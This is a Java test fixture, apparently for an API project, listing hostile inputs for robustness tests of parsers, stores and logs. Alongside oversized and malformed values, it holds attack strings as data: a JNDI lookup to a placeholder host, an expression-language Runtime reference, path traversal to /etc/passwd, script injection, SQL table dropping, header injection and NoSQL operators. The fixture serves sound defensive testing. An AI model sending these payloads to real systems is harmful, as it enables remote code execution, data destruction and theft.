package dev.tributary.api;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Values that have broken parsers, regular expressions, stores and logs. */
final class HostileValues {

    /** As texts, for a query, a path, a header or a string of JSON. */
    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\0",
            "a\u0001b",
            "\r\nX-Injected: 1",
            "a".repeat(129),
            "a".repeat(8_192),
            "a".repeat(20_000),
            "a.".repeat(5_000) + "a",
            "[".repeat(5_000),
            "(a+)+$".repeat(20),
            "{\"$gt\":\"\"}",
            "$where",
            "__proto__",
            "{{env:HOME}}",
            "${jndi:ldap://a.example/x}",
            "#{T(java.lang.Runtime)}",
            "../../../etc/passwd",
            "<script>alert(1)</script>",
            "';DROP TABLE a;--",
            "%00",
            "%zz",
            "%C0%80",
            "\u202Etxt\u2028\u0085",
            "\uD83D\uDE00",
            "\uFFFF",
            "-1",
            "0",
            "99999999999999999999999999",
            "1e99999999999",
            "9".repeat(5_000),
            "NaN",
            "true",
            "null",
            "+999999999-12-31T23:59:59Z",
            "-999999999-01-01T00:00:00Z",
            "2026-02-30T00:00:00Z",
            "2026-01-01T00:00:00+18:00",
            "9999-12-31T23:59:59.999999999Z",
            "PT99999999999999H",
            "P-999999999Y",
            "https://127.0.0.1/",
            "https://[::ffff:127.0.0.1]/",
            "https://[::1",
            "https://[::ffff:127.0.0.16666666666666]/",
            "https://a.example:99999999999/",
            "https://" + "a.".repeat(200) + "example/",
            "https://" + "a".repeat(5_000) + "/",
            "https://" + "a_".repeat(4_000) + "/",
            "https://a.example/" + "%41".repeat(2_000),
            "https://user@a.example/#@b.example",
            "direct:" + "a".repeat(300),
            "*.",
            "*." + "a.".repeat(200) + "example",
            "whsec_" + "A".repeat(7_000),
            "whsk_AAAA",
            "\"1\", \"2\", W/\"3\", *",
            "text/csv;q=".concat("9".repeat(400)),
            "*/*;".concat("a=b;".repeat(2_000)),
            "bytes=0-" + "1,2-".repeat(1_000),
            "AQAAAAAAAAAAYQ",
            "019cadd4-71f3-7d7e-9f3a-000000000001",
            "ffffffff-ffff-ffff-ffff-ffffffffffff:x");

    /** As JSON, in place of a member's value. */
    static final List<String> JSON = json();

    private HostileValues() {}

    private static List<String> json() {
        List<String> all = new ArrayList<>(List.of(
                "null",
                "true",
                "0",
                "-1",
                "1e99999999999",
                "1e-99999999999",
                "-1E+2147483648",
                "1e308",
                "0." + "9".repeat(39),
                "9".repeat(41),
                "9".repeat(1_001),
                "-0.0",
                "NaN",
                "[]",
                "[null]",
                "[[[]]]",
                "{}",
                "{\"\":null}",
                "{\"$where\":\"1\"}",
                "{\"a.b\":{\"$gt\":1}}",
                "{\"a\\u0000b\":\"c\"}",
                "{\"a\":1,\"a\":2}",
                "\"\\ud800\"",
                "\"\\u0000\"",
                "\"cut",
                "[\"" + "a.".repeat(5_000) + "a\"]",
                "[" + "\"bank.*\",".repeat(5_000) + "\"bank.*\"]",
                "[" + "{},".repeat(5_000) + "{}]",
                "[".repeat(60) + "]".repeat(60),
                "[".repeat(50_000),
                "{\"not\":".repeat(15) + "{\"exact\":{\"type\":\"a\"}}" + "}".repeat(15),
                "{\"not\":".repeat(17) + "{\"exact\":{\"type\":\"a\"}}" + "}".repeat(17),
                "{\"any\":[" + "{\"exact\":{\"type\":\"a\"}},".repeat(2_000) + "{\"exact\":{\"type\":\"a\"}}]}"));
        Stream.of(TEXTS).flatMap(List::stream).map(HostileValues::quoted).forEach(all::add);
        return List.copyOf(all);
    }

    private static String quoted(String text) {
        var json = new StringBuilder("\"");
        text.chars()
                .forEach(c -> json.append(
                        c < ' ' || c == '"' || c == '\\' || c > '~'
                                ? "\\u%04x".formatted(c)
                                : String.valueOf((char) c)));
        return json.append('"').toString();
    }
}
